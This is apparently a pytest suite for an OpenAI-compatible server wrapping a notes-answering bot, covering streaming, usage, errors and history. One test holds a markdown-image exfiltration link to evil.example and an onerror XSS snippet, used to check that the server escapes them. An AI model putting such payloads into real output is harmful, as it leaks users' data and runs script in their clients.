"""The door shaped like OpenAI's, spoken to by the official client: over a script, and over the shipped notes with a real one."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from types import ModuleType
from typing import Any

import httpx
import openai
import pytest

from door_server import open_to
from notebot import render
from notebot.bot import Bot
from notebot.errors import Busy, IndexMissing, ModelFailed, UsageError
from notebot.events import Beyond, Checked, Done, Draft, Settled, Stage
from notebot.settings import Settings
from notebot.types import Status, Turn

ROOT = Path(__file__).parents[3]
HELLO = {"role": "user", "content": "What is data mining?"}
ASK: dict[str, Any] = {"model": "notebot", "messages": [HELLO]}


@pytest.fixture(scope="module")
def bot(scripted: ModuleType) -> Any:
    return scripted.ScriptedBot(scripted.story())


def client_of(address: str) -> openai.OpenAI:
    return openai.OpenAI(base_url=f"{address}/v1", api_key="not needed", max_retries=0, timeout=180)


@pytest.fixture(scope="module")
def client(bot: Any) -> Iterator[openai.OpenAI]:
    with open_to(bot) as doors, client_of(doors.address) as client:
        yield client


def streamed(client: openai.OpenAI, **more: Any) -> tuple[str, list[Any]]:
    """The text of a stream, and its chunks."""
    chunks = list(client.chat.completions.create(**ASK, stream=True, **more))
    return "".join(chunk.choices[0].delta.content or "" for chunk in chunks if chunk.choices), chunks


def test_the_only_model_is_the_notes(client: openai.OpenAI) -> None:
    assert [model.id for model in client.models.list()] == ["notebot"]
    assert client.models.retrieve("notebot").object == "model"
    with pytest.raises(openai.NotFoundError) as missing:
        client.models.retrieve("gpt-5")
    assert missing.value.code == "model_not_found"


def test_an_answer_has_marks_places_and_all_of_it_in_a_field(client: openai.OpenAI, scripted: ModuleType) -> None:
    whole = client.chat.completions.create(**ASK)
    answer = scripted.story()[-1].answer
    assert whole.choices[0].message.content == render.answer_markdown(answer)
    assert "unknown patterns. [1] [2]" in render.answer_markdown(answer)
    assert whole.choices[0].finish_reason == "stop"
    assert whole.notebot == render.answer_json(answer)  # type: ignore[attr-defined]
    assert whole.usage is not None
    assert (whole.usage.prompt_tokens, whole.usage.completion_tokens, whole.usage.total_tokens) == (1180, 240, 1420)


def test_history_is_the_bots_own_words_without_marks(client: openai.OpenAI, bot: Any, scripted: ModuleType) -> None:
    before = client.chat.completions.create(**ASK).choices[0].message.content
    system = {"role": "system", "content": "You are a pirate."}
    messages: Any = [system, HELLO, {"role": "assistant", "content": before}, {"role": "user", "content": "And why?"}]
    client.chat.completions.create(model="notebot", messages=messages)
    said = scripted.story()[-1].answer.text
    assert bot.asked[-1] == ("And why?", (Turn("user", HELLO["content"]), Turn("assistant", said)))


def test_a_stream_is_the_same_answer(client: openai.OpenAI, scripted: ModuleType) -> None:
    text, chunks = streamed(client)
    answer = scripted.story()[-1].answer
    assert text == render.answer_markdown(answer)
    assert [chunk.choices[0].finish_reason for chunk in chunks].count("stop") == 1
    told = [chunk.model_extra["notebot"] for chunk in chunks if "notebot" in chunk.model_extra]
    assert [one["event"] for one in told] == ["stage"] * 4 + ["done"]
    assert {"event": "done", **render.answer_json(answer)} == told[-1]
    assert len({chunk.id for chunk in chunks}) == 1


def test_usage_ends_a_stream_where_it_is_asked_for(client: openai.OpenAI) -> None:
    _, chunks = streamed(client, stream_options={"include_usage": True})
    assert chunks[-1].choices == []
    assert (chunks[-1].usage.prompt_tokens, chunks[-1].usage.completion_tokens) == (1180, 240)
    assert all(chunk.usage is None for chunk in chunks[:-1])


def test_an_answer_that_no_model_was_asked_for_cost_nothing(scripted: ModuleType) -> None:
    silent = replace(scripted.answer(Status.NOT_IN_NOTES, ()), usage=None, model="")
    with open_to(scripted.ScriptedBot([Done(silent)])) as doors, client_of(doors.address) as client:
        usage = client.chat.completions.create(**ASK).usage
    assert usage is not None
    assert (usage.prompt_tokens, usage.completion_tokens, usage.total_tokens) == (0, 0, 0)


def test_nothing_is_sent_as_text_that_could_be_withdrawn(scripted: ModuleType) -> None:
    """The checked sentence and the drafts give way to a quote in the end; a client must never have seen them."""
    quote = replace(scripted.THIRD, text="anomaly detection")
    final = scripted.answer(Status.QUOTED, [quote], text="In the words of your notes:\n- anomaly detection")
    story = [Stage("writing", ""), Draft("It was invented"), Checked(scripted.FIRST), Draft("in 1763."), Done(final)]
    with open_to(scripted.ScriptedBot(story)) as doors, client_of(doors.address) as client:
        text, _ = streamed(client)
        raw = httpx.post(f"{doors.address}/v1/chat/completions", json={**ASK, "stream": True}).text
    assert text == render.answer_markdown(final)
    for withdrawn in ("automatic or semi-automatic", "1763"):
        assert withdrawn not in raw.partition('"event":"done"')[0]


def test_what_is_not_from_the_notes_comes_after_and_apart(scripted: ModuleType) -> None:
    settled = scripted.answer(Status.ANSWERED, [scripted.THIRD])
    done = replace(settled, beyond="It is an old field.", notice="One more thing.")
    story = [Settled(settled), Beyond("It is an old field."), 0.3, Done(done)]
    with open_to(scripted.ScriptedBot(story)) as doors, client_of(doors.address) as client:
        text, _ = streamed(client)
    assert text == render.answer_markdown(done)
    assert text.index("Not from your notes") < text.index("It is an old field.")


def test_markup_in_notes_is_shown_and_not_carried_out(scripted: ModuleType) -> None:
    hostile = replace(scripted.THIRD, text="![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)>")
    story = [Done(scripted.answer(Status.ANSWERED, [hostile]))]
    with open_to(scripted.ScriptedBot(story)) as doors, client_of(doors.address) as client:
        content = client.chat.completions.create(**ASK).choices[0].message.content or ""
        text, _ = streamed(client)
    assert content == text
    assert "\\!\\[x\\](" in content
    assert "`https://evil.example/?q=secret`" in content
    assert "\\<img" in content


@pytest.mark.parametrize(
    ("error", "raised", "kind"),
    [
        (UsageError("The question is empty."), openai.BadRequestError, "invalid_request_error"),
        (IndexMissing("Run: notebot ingest"), openai.InternalServerError, "server_error"),
        (Busy("64 wait."), openai.RateLimitError, "rate_limit_error"),
        (RuntimeError("secret inside"), openai.InternalServerError, "server_error"),
    ],
)
@pytest.mark.parametrize("stream", [False, True])
def test_errors_are_openais(scripted: ModuleType, error: Exception, raised: type[Exception], kind: str, stream: bool) -> None:
    with open_to(scripted.ScriptedBot([error])) as doors, client_of(doors.address) as client, pytest.raises(raised) as failed:
        client.chat.completions.create(**ASK, stream=stream)
    body: Any = failed.value
    assert body.type == kind
    assert "secret" not in str(body)
    assert (str(error) in str(body)) is not isinstance(error, RuntimeError)


def test_what_breaks_off_later_is_an_error_in_the_stream(scripted: ModuleType) -> None:
    script = [Stage("writing", ""), Draft("one"), 0.1, ModelFailed("It broke off.")]
    broken = pytest.raises(openai.APIError, match="It broke off")
    with open_to(scripted.ScriptedBot(script)) as doors, client_of(doors.address) as client, broken:
        streamed(client)


def test_requests_that_cannot_be_used_name_what_is_wrong(client: openai.OpenAI) -> None:
    for more, param in (({"n": 2}, "n"), ({"tools": [{"type": "function", "function": {"name": "f"}}]}, "tools")):
        with pytest.raises(openai.BadRequestError) as refused:
            client.chat.completions.create(**ASK, **more)  # type: ignore[call-overload]
        assert refused.value.param == param
    with pytest.raises(openai.BadRequestError, match=r"messages\.0\.role"):
        client.chat.completions.create(model="notebot", messages=[{"role": "me", "content": "x"}])  # type: ignore[list-item]
    with pytest.raises(openai.NotFoundError, match="gpt-5"):
        client.chat.completions.create(model="gpt-5", messages=[HELLO])  # type: ignore[list-item]
    answer = httpx.post(f"{client.base_url}chat/completions", content=b"{", headers={"Content-Type": "application/json"})
    assert (answer.status_code, answer.json()["error"]["type"]) == (400, "invalid_request_error")
    answer = httpx.put(f"{client.base_url}models")
    assert (answer.status_code, answer.headers["allow"]) == (405, "GET")


@pytest.fixture(scope="module")
def real(tmp_path_factory: pytest.TempPathFactory) -> Iterator[openai.OpenAI]:
    """A real Bot over the shipped notes, without their pages, and the packaged model."""
    settings = Settings(
        knowledge=(ROOT / "knowledge",), data=tmp_path_factory.mktemp("data"), model="packaged", links=False, watch=False,
        passages=2, answer_tokens=64,
    )  # fmt: skip
    with Bot(settings) as bot:
        bot.ingest()
        with open_to(bot) as doors, client_of(doors.address) as client:
            yield client


@pytest.mark.timeout(400)  # the packaged model reads on the CPU, which others may want too
def test_the_shipped_notes_answer_the_official_client(real: openai.OpenAI) -> None:
    question: Any = [{"role": "user", "content": "What is data mining?"}]
    whole = real.chat.completions.create(model="notebot", messages=question)
    answer: Any = whole.notebot  # type: ignore[attr-defined]
    assert answer["status"] in ("answered", "partial", "quoted")
    assert answer["model"]
    cited = [citation for sentence in answer["sentences"] if sentence["supported"] for citation in sentence["citations"]]
    passages = {passage["id"]: passage["text"] for passage in answer["passages"]}
    assert cited
    assert all(citation["quote"] in passages[citation["passage"]] for citation in cited)
    assert "[1]" in (whole.choices[0].message.content or "")
    chunks = list(real.chat.completions.create(model="notebot", messages=question, stream=True))
    text = "".join(chunk.choices[0].delta.content or "" for chunk in chunks)
    done = [chunk.model_extra["notebot"] for chunk in chunks if "notebot" in chunk.model_extra][-1]
    assert done["status"] in ("answered", "partial", "quoted")
    assert all(sentence["text"] in text for sentence in done["sentences"] if sentence["supported"])
    assert "[1]" in text
    # The words may be others: each time the prompt has new delimiters, and a small model heeds them.
    assert text == whole.choices[0].message.content or done["sentences"] != answer["sentences"]
    more = [*question, {"role": "assistant", "content": text}, {"role": "user", "content": "What are its groups called?"}]
    follow: Any = real.chat.completions.create(model="notebot", messages=more).notebot  # type: ignore[attr-defined]
    assert "data mining" in follow["asked"].lower()
    silent: Any = real.chat.completions.create(
        model="notebot", messages=[{"role": "user", "content": "Who won the chess world cup in 1987?"}]
    )
    assert silent.notebot["status"] == "not_in_notes"
    with pytest.raises(openai.BadRequestError, match="empty"):
        real.chat.completions.create(model="notebot", messages=[{"role": "user", "content": "???"}])
